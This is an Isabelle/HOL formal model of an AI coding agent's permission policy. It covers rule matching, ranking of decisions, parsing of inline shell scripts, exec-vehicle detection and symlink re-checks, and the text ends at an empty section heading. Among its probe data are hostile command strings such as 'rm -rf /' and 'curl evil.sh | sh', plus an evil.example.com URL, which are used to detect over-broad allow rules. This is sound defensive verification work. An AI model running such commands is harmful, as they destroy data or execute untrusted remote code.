(* ===== verification/Perm_Policy.thy ===== *)
theory Perm_Policy
  imports Bash_Tree Rust_Path
begin

text \<open>
  The permission policy (\<open>crates/codegen/xai-grok-workspace/src/permission/policy.rs\<close>): rules compiled
  once and evaluated for each access, with the gates on shell commands and the re-check of symbolic links.

  What the code takes from other packages and from the machine is the record \<open>policy_env\<close>: the \<open>glob\<close>
  patterns, the host of a URL, Unicode lower case, the shell parser and the file system.
\<close>

section \<open>Environment\<close>

datatype stat_result = StatOk bool | StatNotFound | StatErr

record 'g policy_env =
  pe_glob_new :: "ustr \<Rightarrow> 'g option"
  pe_glob_match :: "'g \<Rightarrow> bool \<Rightarrow> ustr \<Rightarrow> bool"
  pe_url_host :: "ustr \<Rightarrow> ustr option"
  pe_lower :: "ustr \<Rightarrow> ustr"
  pe_parse :: "ustr \<Rightarrow> node option"
  pe_canonicalize :: "ustr \<Rightarrow> ustr option"
  pe_symlink_metadata :: "ustr \<Rightarrow> stat_result"
  pe_read_link :: "ustr \<Rightarrow> ustr option"

section \<open>Decisions\<close>

datatype gate_decision = GReject ustr | AskRuleMatch | AskFailClosed

definition into_decision :: "gate_decision \<Rightarrow> decision" where
  "into_decision g = (case g of GReject r \<Rightarrow> Reject r | AskRuleMatch \<Rightarrow> Ask | AskFailClosed \<Rightarrow> Ask)"

definition is_ask :: "gate_decision \<Rightarrow> bool" where
  "is_ask g \<longleftrightarrow> g = AskRuleMatch \<or> g = AskFailClosed"

definition gate_rank :: "gate_decision \<Rightarrow> nat" where
  "gate_rank g = (case g of GReject _ \<Rightarrow> 3 | AskRuleMatch \<Rightarrow> 2 | AskFailClosed \<Rightarrow> 1)"

definition combine_gate_decisions ::
  "gate_decision option \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option"
where
  "combine_gate_decisions a b =
     (case (a, b) of
        (None, other) \<Rightarrow> other
      | (other, None) \<Rightarrow> other
      | (Some a, Some b) \<Rightarrow> Some (if gate_rank a \<ge> gate_rank b then a else b))"

definition decision_rank :: "decision \<Rightarrow> nat" where
  "decision_rank d =
     (case d of
        Reject _ \<Rightarrow> 3
      | PolicyDeny _ \<Rightarrow> 3
      | Ask \<Rightarrow> 2
      | Allow \<Rightarrow> 1
      | FollowupMessage _ \<Rightarrow> 0
      | Cancelled \<Rightarrow> 0)"

definition combine_decisions :: "decision option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "combine_decisions a b =
     (case (a, b) of
        (None, other) \<Rightarrow> other
      | (other, None) \<Rightarrow> other
      | (Some a, Some b) \<Rightarrow> Some (if decision_rank a \<ge> decision_rank b then a else b))"

section \<open>Matching\<close>

definition glob_matches :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> bool \<Rightarrow> 'g option \<Rightarrow> bool" where
  "glob_matches env s path_context pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> pe_glob_match env p path_context s)"

definition trim_end_matches :: "uchar \<Rightarrow> ustr \<Rightarrow> ustr" where
  "trim_end_matches c s = rev (dropWhile (\<lambda>x. x = c) (rev s))"

definition normalize_domain :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> ustr" where
  "normalize_domain env raw =
     (let s = trim_end_matches DOT (trim_end_matches SLASH (trim raw)) in
      pe_lower env (case strip_prefix (lit ''www.'') s of Some r \<Rightarrow> r | None \<Rightarrow> s))"

definition domain_matches :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> ustr \<Rightarrow> bool" where
  "domain_matches env pattern url =
     (case pe_url_host env url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          (let domain = normalize_domain env host;
               normalized_pattern = normalize_domain env pattern
           in domain = normalized_pattern \<or> ends_with domain (DOT # normalized_pattern)))"

definition is_tilde_path :: "ustr \<Rightarrow> bool" where
  "is_tilde_path p =
     (case components p of Normal first # _ \<Rightarrow> starts_with first (lit ''~'') | _ \<Rightarrow> False)"

definition path_match_string :: "ustr \<Rightarrow> ustr" where
  "path_match_string p = map (\<lambda>c. if c = BSL then SLASH else c) p"

definition path_has_parent_dir :: "ustr \<Rightarrow> bool" where
  "path_has_parent_dir p \<longleftrightarrow> ParentDir \<in> set (components p)"

definition joined_path :: "ustr \<Rightarrow> ustr option \<Rightarrow> ustr" where
  "joined_path raw cwd =
     (case cwd of Some cwd \<Rightarrow> if \<not> is_absolute raw then path_join cwd raw else raw | None \<Rightarrow> raw)"

definition absolute_normalized_path :: "ustr \<Rightarrow> ustr option \<Rightarrow> ustr" where
  "absolute_normalized_path path cwd =
     (if is_tilde_path path then path else normalize_lexically (joined_path path cwd))"

definition path_match_forms :: "ustr \<Rightarrow> ustr option \<Rightarrow> ustr list" where
  "path_match_forms path cwd =
     (let absp = absolute_normalized_path path cwd;
          form = path_match_string absp
      in case cwd of
           Some cwd \<Rightarrow>
             (case path_strip_prefix absp (normalize_lexically cwd) of
                Some rel \<Rightarrow>
                  (let rel_s = path_match_string rel in
                   if rel_s = [] \<or> rel_s = lit ''.'' then [form, lit ''.'', lit ''./'']
                   else [form, lit ''./'' @ rel_s, rel_s])
              | None \<Rightarrow> [form])
         | None \<Rightarrow>
             if \<not> is_absolute absp \<and> \<not> path_has_parent_dir absp \<and> \<not> is_tilde_path absp
             then (if form \<noteq> lit ''.'' \<and> form \<noteq> [] then [form, lit ''./'' @ form] else [form])
             else [form])"

definition path_context_matches :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> 'g option \<Rightarrow> ustr option \<Rightarrow> bool" where
  "path_context_matches env path matcher cwd =
     list_ex (\<lambda>s. glob_matches env s True matcher) (path_match_forms path cwd)"

definition pattern_matches ::
  "'g policy_env \<Rightarrow> 'j access_kind \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> ustr option \<Rightarrow> bool"
where
  "pattern_matches env access rule matcher cwd =
     (case rule_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = lit ''*'' then True
          else (case access of
                  AccBash cmd \<Rightarrow>
                    (let cmd = trim_start cmd in
                     starts_with cmd pattern \<or> glob_matches env cmd False matcher)
                | AccEdit path \<Rightarrow> path_context_matches env path matcher cwd
                | AccRead path \<Rightarrow> (case path of Some p \<Rightarrow> path_context_matches env p matcher cwd | None \<Rightarrow> False)
                | AccGrep path _ \<Rightarrow> (case path of Some p \<Rightarrow> path_context_matches env p matcher cwd | None \<Rightarrow> False)
                | AccMcp name _ \<Rightarrow> glob_matches env name False matcher
                | AccWebFetch url \<Rightarrow>
                    (case rule_pattern_mode rule of
                       Domain \<Rightarrow> domain_matches env pattern url
                     | Glob \<Rightarrow> glob_matches env url False matcher)
                | AccWebSearch query \<Rightarrow> glob_matches env query False matcher \<or> starts_with query pattern
                | AccAgentMessage subagent_id \<Rightarrow>
                    glob_matches env subagent_id False matcher \<or> starts_with subagent_id pattern
                | AccTool name \<Rightarrow>
                    if rule_tool rule = FEdit then False
                    else glob_matches env name False matcher \<or> starts_with name pattern))"

definition tool_filter_matches :: "'j access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access f =
     (case f of
        FAny \<Rightarrow> True
      | FBash \<Rightarrow> (case access of AccBash _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FEdit \<Rightarrow> (case access of AccEdit _ \<Rightarrow> True | AccTool _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FRead \<Rightarrow> (case access of AccRead _ \<Rightarrow> True | AccGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FGrep \<Rightarrow> (case access of AccGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FMcp \<Rightarrow> (case access of AccMcp _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FWebFetch \<Rightarrow> (case access of AccWebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FWebSearch \<Rightarrow> (case access of AccWebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FAgentMessage \<Rightarrow> (case access of AccAgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False))"

definition is_tool_wide_pattern :: "ustr option \<Rightarrow> bool" where
  "is_tool_wide_pattern pattern \<longleftrightarrow> pattern = None \<or> pattern = Some (lit ''*'') \<or> pattern = Some []"

definition rule_reaches :: "'j access_kind \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_reaches access rule =
     (case access of
        AccTool _ \<Rightarrow>
          if rule_tool rule = FEdit
          then (rule_action rule = RuleDeny \<or> rule_action rule = RuleAsk) \<and>
               is_tool_wide_pattern (rule_pattern rule)
          else tool_filter_matches access (rule_tool rule)
      | _ \<Rightarrow> tool_filter_matches access (rule_tool rule))"

section \<open>Bash patterns\<close>

definition matches_command_prefix :: "ustr \<Rightarrow> ustr \<Rightarrow> bool" where
  "matches_command_prefix cmd pattern \<longleftrightarrow>
     cmd = pattern \<or>
     (starts_with cmd pattern \<and> length pattern < length cmd \<and> cmd ! length pattern = 32)"

definition bash_command_matches_pattern :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> ustr \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_command_matches_pattern env command pattern precompiled =
     (let command = trim_start command;
          pattern = trim pattern
      in if pattern = [] then False
         else if pattern = lit ''*'' then True
         else if matches_command_prefix command pattern then True
         else (case precompiled of
                 Some p \<Rightarrow> glob_matches env command False (Some p)
               | None \<Rightarrow>
                   (case pe_glob_new env pattern of
                      Some p \<Rightarrow> glob_matches env command False (Some p)
                    | None \<Rightarrow> False)))"

definition bash_allow_pattern_matches :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_allow_pattern_matches env cmd rule matcher =
     (case rule_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = lit ''*'' then True else bash_command_matches_pattern env cmd pattern matcher)"

definition bash_pattern_matches_command :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> ustr \<Rightarrow> bool" where
  "bash_pattern_matches_command env pattern command = bash_command_matches_pattern env command pattern None"

definition bash_pattern_is_broad :: "ustr \<Rightarrow> bool" where
  "bash_pattern_is_broad pattern =
     (let pattern = trim pattern in
      if pattern = [] then False else pattern = lit ''*'' \<or> \<not> list_ex is_ws pattern)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "unit access_kind list" where
  "bash_probes = map (\<lambda>c. AccBash (lit c)) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "unit access_kind list" where
  "mcp_probes = map (\<lambda>n. AccMcp (lit n) ())
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "unit access_kind list" where
  "webfetch_probes = map (\<lambda>u. AccWebFetch (lit u))
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition agent_message_probes :: "unit access_kind list" where
  "agent_message_probes = map (\<lambda>i. AccAgentMessage (lit i)) [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition compile_matcher :: "'g policy_env \<Rightarrow> permission_rule \<Rightarrow> 'g option" where
  "compile_matcher env rule =
     (case rule_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = lit ''*'' then None else pe_glob_new env p)"

definition rule_is_catchall :: "'g policy_env \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall env rule =
     (let matcher = compile_matcher env rule;
          opens_all = (\<lambda>probes. list_all (\<lambda>a. pattern_matches env a rule matcher None) probes)
      in case rule_tool rule of
           FBash \<Rightarrow> opens_all bash_probes
         | FMcp \<Rightarrow> opens_all mcp_probes
         | FWebFetch \<Rightarrow> opens_all webfetch_probes
         | FAgentMessage \<Rightarrow> opens_all agent_message_probes
         | FAny \<Rightarrow>
             opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes \<or>
             opens_all agent_message_probes
         | _ \<Rightarrow> False)"

definition bash_glob_is_catchall :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> bool" where
  "bash_glob_is_catchall env pattern =
     list_all (\<lambda>access. case access of AccBash cmd \<Rightarrow> bash_pattern_matches_command env pattern cmd | _ \<Rightarrow> False)
       bash_probes"

section \<open>Exec vehicles\<close>

definition EXEC_VEHICLE_HEADS :: "ustr list" where
  "EXEC_VEHICLE_HEADS = map lit
     [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'',
      ''deno'', ''bun'', ''julia'', ''rscript'', ''awk'', ''gawk'', ''mawk'', ''nawk'', ''nodejs'', ''luajit'',
      ''phpdbg'', ''php-cgi'', ''pythonw'', ''npx'', ''bunx'', ''pipx'', ''uvx'', ''uv'',
      ''xargs'', ''find'', ''sudo'', ''doas'', ''su'', ''ssh'', ''watch'', ''setsid'', ''flock'', ''chroot'',
      ''nsenter'', ''docker'', ''podman'']"

definition EXEC_VEHICLE_HEAD_FAMILIES :: "ustr list" where
  "EXEC_VEHICLE_HEAD_FAMILIES = map lit [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition normalized_command_head :: "ustr list \<Rightarrow> ustr option" where
  "normalized_command_head words =
     (case words of
        [] \<Rightarrow> None
      | w # _ \<Rightarrow>
          (let head = map ascii_lower (last_segment w) in
           Some (case strip_suffix (lit ''.exe'') head of Some h \<Rightarrow> h | None \<Rightarrow> head)))"

definition head_is_exec_vehicle :: "ustr list \<Rightarrow> bool" where
  "head_is_exec_vehicle words =
     (case normalized_command_head words of
        None \<Rightarrow> False
      | Some head \<Rightarrow>
          head \<in> set EXEC_VEHICLE_HEADS \<or>
          list_ex (\<lambda>family.
            case strip_prefix family head of
              None \<Rightarrow> False
            | Some rest \<Rightarrow>
                (let core = (case strip_suffix (lit ''t'') rest of Some c \<Rightarrow> c | None \<Rightarrow> rest) in
                 list_all (\<lambda>c. is_ascii_digit c \<or> c = DOT) core))
            EXEC_VEHICLE_HEAD_FAMILIES)"

section \<open>Inline scripts\<close>

datatype shell_word = SWLiteral ustr | SWUntrusted

datatype inline_shell_script = NotInline | LiteralAt nat | InlineUntrusted | Unrecognized

definition is_potential_inline :: "inline_shell_script \<Rightarrow> bool" where
  "is_potential_inline s = (case s of LiteralAt _ \<Rightarrow> True | InlineUntrusted \<Rightarrow> True | _ \<Rightarrow> False)"

definition ambiguous_script :: "bool \<Rightarrow> inline_shell_script" where
  "ambiguous_script saw_c = (if saw_c then InlineUntrusted else Unrecognized)"

definition finish_literal :: "bool \<Rightarrow> nat \<Rightarrow> inline_shell_script" where
  "finish_literal dynamic_head i = (if dynamic_head then InlineUntrusted else LiteralAt i)"

text \<open>What one word of the options does; \<open>next\<close> is the word after it.\<close>

datatype dash_c_step = ScDone inline_shell_script | ScSkip bool bool | ScSkip2

definition dash_c_step_of ::
  "bool \<Rightarrow> shell_word \<Rightarrow> shell_word option \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> dash_c_step"
where
  "dash_c_step_of dynamic_head word next_word i saw_c unrecognized =
     (case word of
        SWUntrusted \<Rightarrow> ScDone (ambiguous_script saw_c)
      | SWLiteral word \<Rightarrow>
          if word = lit ''--'' \<or> word = lit ''-''
          then (if \<not> saw_c then ScDone (if unrecognized then Unrecognized else NotInline)
                else (case next_word of
                        Some (SWLiteral _) \<Rightarrow> ScDone (finish_literal dynamic_head (i + 1))
                      | _ \<Rightarrow> ScDone InlineUntrusted))
          else if \<not> starts_with word (lit ''-'') \<and> \<not> starts_with word (lit ''+'')
          then ScDone (if saw_c then finish_literal dynamic_head i
                       else if unrecognized then Unrecognized else NotInline)
          else if word = lit ''--init-file'' \<or> word = lit ''--rcfile''
          then (case next_word of
                  Some (SWLiteral _) \<Rightarrow> ScSkip2
                | _ \<Rightarrow> ScDone (ambiguous_script saw_c))
          else if starts_with word (lit ''--'')
          then (if word \<in> set (map lit [''--noprofile'', ''--norc'', ''--posix'']) then ScSkip saw_c unrecognized
                else if saw_c then ScDone InlineUntrusted
                else ScSkip saw_c True)
          else if word \<in> set (map lit [''-o'', ''+o'', ''-O'', ''+O''])
          then (case next_word of
                  Some (SWLiteral value) \<Rightarrow>
                    if \<not> starts_with value (lit ''-'') then ScSkip2 else ScDone (ambiguous_script saw_c)
                | _ \<Rightarrow> ScDone (ambiguous_script saw_c))
          else if starts_with word (lit ''-O'') \<and> length word > 2 then ScSkip saw_c unrecognized
          else if (starts_with word (lit ''+O'') \<or> starts_with word (lit ''+o'')) \<and> length word > 2
          then ScSkip saw_c unrecognized
          else if starts_with word (lit ''-o'') \<and> length word > 2 then ScDone (ambiguous_script saw_c)
          else if starts_with word (lit ''+'') then ScSkip saw_c unrecognized
          else (let flags = drop 1 word in
                if 111 \<in> set flags \<or> 79 \<in> set flags then ScDone (ambiguous_script saw_c)
                else ScSkip (saw_c \<or> 99 \<in> set flags) unrecognized))"

fun dash_c_loop :: "bool \<Rightarrow> shell_word list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> inline_shell_script" where
  "dash_c_loop dyn [] i saw_c unrecognized =
     (if saw_c then InlineUntrusted else if unrecognized then Unrecognized else NotInline)"
| "dash_c_loop dyn (w # ws) i saw_c unrecognized =
     (case dash_c_step_of dyn w (case ws of [] \<Rightarrow> None | n # _ \<Rightarrow> Some n) i saw_c unrecognized of
        ScDone r \<Rightarrow> r
      | ScSkip saw_c unrecognized \<Rightarrow> dash_c_loop dyn ws (i + 1) saw_c unrecognized
      | ScSkip2 \<Rightarrow> dash_c_loop dyn (drop 1 ws) (i + 2) saw_c unrecognized)"

definition shell_dash_c_script :: "shell_word list \<Rightarrow> inline_shell_script" where
  "shell_dash_c_script words =
     (case words of
        [] \<Rightarrow> NotInline
      | SWLiteral program # ws \<Rightarrow>
          if last_segment program \<notin> set (map lit [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']) then NotInline
          else dash_c_loop False ws 1 False False
      | SWUntrusted # ws \<Rightarrow> dash_c_loop True ws 1 False False)"

section \<open>The compiled policy\<close>

record 'g compiled_policy =
  cp_config :: permission_config
  cp_matchers :: "'g option list"
  cp_has_file_restrictions :: bool
  cp_has_bash_command_restrictions :: bool
  cp_has_bash_allow_rules :: bool
  cp_catchall :: "bool list"

definition restricts :: "permission_rule \<Rightarrow> bool" where
  "restricts rule \<longleftrightarrow> rule_action rule = RuleDeny \<or> rule_action rule = RuleAsk"

definition compiled_policy_new :: "'g policy_env \<Rightarrow> permission_config \<Rightarrow> 'g compiled_policy" where
  "compiled_policy_new env config =
     \<lparr>cp_config = config,
      cp_matchers = map (compile_matcher env) (pc_rules config),
      cp_has_file_restrictions =
        list_ex (\<lambda>rule. restricts rule \<and> rule_tool rule \<in> {FRead, FEdit, FAny}) (pc_rules config),
      cp_has_bash_command_restrictions =
        list_ex (\<lambda>rule. restricts rule \<and> rule_tool rule \<in> {FBash, FAny}) (pc_rules config),
      cp_has_bash_allow_rules =
        list_ex (\<lambda>rule. rule_action rule = RuleAllow \<and> rule_tool rule \<in> {FBash, FAny}) (pc_rules config),
      cp_catchall = map (rule_is_catchall env) (pc_rules config)\<rparr>"

datatype allow_rule_scope = ScopeAny | NarrowOnly

definition bash_words_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> ustr list \<Rightarrow> bool"
where
  "bash_words_allowed env pol scope words =
     (if words = [] then False
      else
        (let narrow_only = (scope = NarrowOnly) in
         if narrow_only \<and> head_is_exec_vehicle words then False
         else
           (let cmd = join [32] words in
            list_ex (\<lambda>((rule, matcher), catchall).
                \<not> (narrow_only \<and> catchall) \<and> rule_action rule = RuleAllow \<and>
                rule_tool rule \<in> {FBash, FAny} \<and> bash_allow_pattern_matches env cmd rule matcher)
              (zip (zip (pc_rules (cp_config pol)) (cp_matchers pol)) (cp_catchall pol)))))"

text \<open>
  The recursion on the inline depth is passed as \<open>inner\<close>, \<open>None\<close> when no depth is left.
\<close>

definition segment_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> (ustr \<Rightarrow> bool) option \<Rightarrow> ustr list \<Rightarrow> bool"
where
  "segment_allowed env pol scope inner raw_words =
     (let norm = normalize_command_words raw_words in
      if nc_exhausted norm \<or> nc_ambiguous norm \<or> nc_env_options_uncertain norm \<or> nc_has_split_string norm
      then False
      else if \<not> bash_words_allowed env pol scope (nc_words norm) then False
      else (case shell_dash_c_script (map SWLiteral (nc_words norm)) of
              NotInline \<Rightarrow> True
            | LiteralAt index \<Rightarrow>
                (case inner of
                   Some rec_allowed \<Rightarrow>
                     if index < length (nc_words norm) then rec_allowed (nc_words norm ! index) else False
                 | None \<Rightarrow> False)
            | _ \<Rightarrow> False))"

definition chain_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> (ustr \<Rightarrow> bool) option \<Rightarrow> ustr \<Rightarrow> bool"
where
  "chain_allowed env pol scope inner cmd =
     (case all_commands_from_script (pe_parse env) cmd of
        None \<Rightarrow> False
      | Some segments \<Rightarrow>
          if segments = [] then False
          else list_all (\<lambda>parsed. segment_allowed env pol scope inner (pl_words parsed)) segments)"

primrec bash_chain_fully_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> nat \<Rightarrow> ustr \<Rightarrow> bool"
where
  "bash_chain_fully_allowed env pol scope 0 = chain_allowed env pol scope None"
| "bash_chain_fully_allowed env pol scope (Suc n) =
     chain_allowed env pol scope (Some (bash_chain_fully_allowed env pol scope n))"

definition tool_label :: "tool_filter \<Rightarrow> ustr" where
  "tool_label f = lit
     (case f of
        FAny \<Rightarrow> ''any tool'' | FBash \<Rightarrow> ''bash'' | FEdit \<Rightarrow> ''edit'' | FRead \<Rightarrow> ''read'' | FGrep \<Rightarrow> ''grep''
      | FMcp \<Rightarrow> ''mcp'' | FWebFetch \<Rightarrow> ''web_fetch'' | FWebSearch \<Rightarrow> ''web_search''
      | FAgentMessage \<Rightarrow> ''agent_message'')"

definition deny_reason :: "permission_rule \<Rightarrow> ustr" where
  "deny_reason rule =
     (case rule_pattern rule of
        Some pattern \<Rightarrow>
          lit ''Denied by permission policy: deny rule on '' @ tool_label (rule_tool rule) @
          lit '' matching '' @ [DQUOTE] @ pattern @ [DQUOTE]
      | None \<Rightarrow> lit ''Denied by permission policy: deny rule on '' @ tool_label (rule_tool rule))"

text \<open>The loop over the rules: an early denial, or what matched.\<close>

fun rule_loop ::
  "'g policy_env \<Rightarrow> 'j access_kind \<Rightarrow> ustr option \<Rightarrow> (permission_rule \<times> 'g option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow>
   decision + (bool \<times> bool)"
where
  "rule_loop env access cwd [] matched_ask matched_allow = Inr (matched_ask, matched_allow)"
| "rule_loop env access cwd ((rule, matcher) # rest) matched_ask matched_allow =
     (if \<not> rule_reaches access rule \<or> \<not> pattern_matches env access rule matcher cwd
      then rule_loop env access cwd rest matched_ask matched_allow
      else (case rule_action rule of
              RuleDeny \<Rightarrow> Inl (Reject (deny_reason rule))
            | RuleAsk \<Rightarrow> rule_loop env access cwd rest True matched_allow
            | RuleAllow \<Rightarrow> rule_loop env access cwd rest matched_ask True))"

definition evaluate_lexical_with_cwd ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> ustr option \<Rightarrow> decision option"
where
  "evaluate_lexical_with_cwd env pol access cwd =
     (case rule_loop env access cwd (zip (pc_rules (cp_config pol)) (cp_matchers pol)) False False of
        Inl d \<Rightarrow> Some d
      | Inr (matched_ask, matched_allow) \<Rightarrow>
          if matched_ask then Some Ask
          else (case access of
                  AccBash cmd \<Rightarrow>
                    if cp_has_bash_allow_rules pol \<and>
                       bash_chain_fully_allowed env pol ScopeAny MAX_INLINE_SHELL_DEPTH cmd
                    then Some Allow else None
                | _ \<Rightarrow> if matched_allow then Some Allow else None))"

definition narrow_allow_authorizes :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> bool" where
  "narrow_allow_authorizes env pol access =
     (case access of
        AccBash cmd \<Rightarrow>
          cp_has_bash_allow_rules pol \<and>
          bash_chain_fully_allowed env pol NarrowOnly MAX_INLINE_SHELL_DEPTH cmd
      | _ \<Rightarrow> False)"

section \<open>Symbolic links\<close>

text \<open>\<open>walk\<close> returns \<open>None\<close> above depth 40; the fuel counts the depths left.\<close>

definition MAX_SYMLINK_DEPTH :: nat where "MAX_SYMLINK_DEPTH = 40"

primrec symlink_walk :: "'g policy_env \<Rightarrow> nat \<Rightarrow> ustr \<Rightarrow> ustr option" where
  "symlink_walk env 0 p = None"
| "symlink_walk env (Suc n) p =
     (case pe_canonicalize env p of
        Some canonical \<Rightarrow> Some canonical
      | None \<Rightarrow>
          (case (path_parent p, path_file_name p) of
             (Some parent, Some file_name) \<Rightarrow>
               (case symlink_walk env n parent of
                  None \<Rightarrow> None
                | Some resolved_parent \<Rightarrow>
                    (let candidate = path_join resolved_parent file_name in
                     case pe_symlink_metadata env candidate of
                       StatErr \<Rightarrow> None
                     | StatOk True \<Rightarrow>
                         (case pe_read_link env candidate of
                            None \<Rightarrow> None
                          | Some target \<Rightarrow>
                              symlink_walk env n
                                (if is_absolute target then target else path_join resolved_parent target))
                     | _ \<Rightarrow> Some candidate))
           | _ \<Rightarrow> None))"

definition resolve_following_symlinks :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> ustr option" where
  "resolve_following_symlinks env p = symlink_walk env (Suc MAX_SYMLINK_DEPTH) p"

definition resolve_symlink_target :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> ustr option" where
  "resolve_symlink_target env absolute =
     (if \<not> is_absolute absolute then None
      else map_option (\<lambda>r. path_match_string (normalize_lexically r)) (resolve_following_symlinks env absolute))"

fun prefix_has_symlink :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> component list \<Rightarrow> bool" where
  "prefix_has_symlink env prefix [] = False"
| "prefix_has_symlink env prefix (c # cs) =
     (let prefix = path_join prefix (component_str c) in
      if pe_symlink_metadata env prefix = StatOk True then True else prefix_has_symlink env prefix cs)"

definition path_has_symlink :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> bool" where
  "path_has_symlink env absolute =
     (if \<not> is_absolute absolute then False else prefix_has_symlink env [] (components absolute))"

datatype symlink_follow = FollowNone | FollowTarget ustr | Unresolvable

definition follow_absolute_symlink :: "'g policy_env \<Rightarrow> ustr \<Rightarrow> ustr \<Rightarrow> symlink_follow" where
  "follow_absolute_symlink env raw_absolute lexical_absolute =
     (case resolve_symlink_target env raw_absolute of
        Some resolved \<Rightarrow> if resolved \<noteq> lexical_absolute then FollowTarget resolved else FollowNone
      | None \<Rightarrow> if path_has_symlink env raw_absolute then Unresolvable else FollowNone)"

definition native_file_path :: "'j access_kind \<Rightarrow> ustr option" where
  "native_file_path access =
     (case access of AccEdit path \<Rightarrow> Some path | AccRead path \<Rightarrow> path | AccGrep path _ \<Rightarrow> path | _ \<Rightarrow> None)"

text \<open>The remaining case is unreachable; it leaves the access as it is.\<close>

definition access_with_path :: "'j access_kind \<Rightarrow> ustr \<Rightarrow> 'j access_kind" where
  "access_with_path access path =
     (case access of
        AccEdit _ \<Rightarrow> AccEdit path
      | AccRead _ \<Rightarrow> AccRead (Some path)
      | AccGrep _ g \<Rightarrow> AccGrep (Some path) g
      | _ \<Rightarrow> access)"

definition raw_absolute_tool_path :: "ustr \<Rightarrow> ustr option \<Rightarrow> ustr option" where
  "raw_absolute_tool_path path cwd =
     (if is_tilde_path path then None
      else (let joined = joined_path path cwd in
            if is_absolute joined then Some (path_match_string joined) else None))"

section \<open>Evaluation\<close>

definition native_path_restrictions_apply :: "'g compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> bool" where
  "native_path_restrictions_apply pol access =
     list_ex (\<lambda>rule. restricts rule \<and> tool_filter_matches access (rule_tool rule)) (pc_rules (cp_config pol))"

definition evaluate_with_cwd_details ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> ustr option \<Rightarrow> decision option \<times> bool"
where
  "evaluate_with_cwd_details env pol access cwd =
     (let lexical = evaluate_lexical_with_cwd env pol access cwd in
      case native_file_path access of
        None \<Rightarrow> (lexical, False)
      | Some path \<Rightarrow>
          (case raw_absolute_tool_path path cwd of
             None \<Rightarrow> (lexical, False)
           | Some raw_absolute \<Rightarrow>
               (let lexical_abs = path_match_string (absolute_normalized_path path cwd) in
                case follow_absolute_symlink env raw_absolute lexical_abs of
                  FollowTarget resolved \<Rightarrow>
                    (let resolved_decision =
                           (case evaluate_lexical_with_cwd env pol (access_with_path access resolved) cwd of
                              Some (Reject r) \<Rightarrow> Some (Reject r)
                            | Some Ask \<Rightarrow> Some Ask
                            | _ \<Rightarrow> None)
                     in (combine_decisions lexical resolved_decision, False))
                | Unresolvable \<Rightarrow>
                    if native_path_restrictions_apply pol access
                    then (combine_decisions lexical (Some Ask), True)
                    else (lexical, False)
                | FollowNone \<Rightarrow> (lexical, False))))"

definition evaluate_with_cwd ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> ustr option \<Rightarrow> decision option"
where
  "evaluate_with_cwd env pol access cwd = fst (evaluate_with_cwd_details env pol access cwd)"

definition evaluate :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> decision option" where
  "evaluate env pol access = evaluate_with_cwd env pol access None"

section \<open>The command gate\<close>

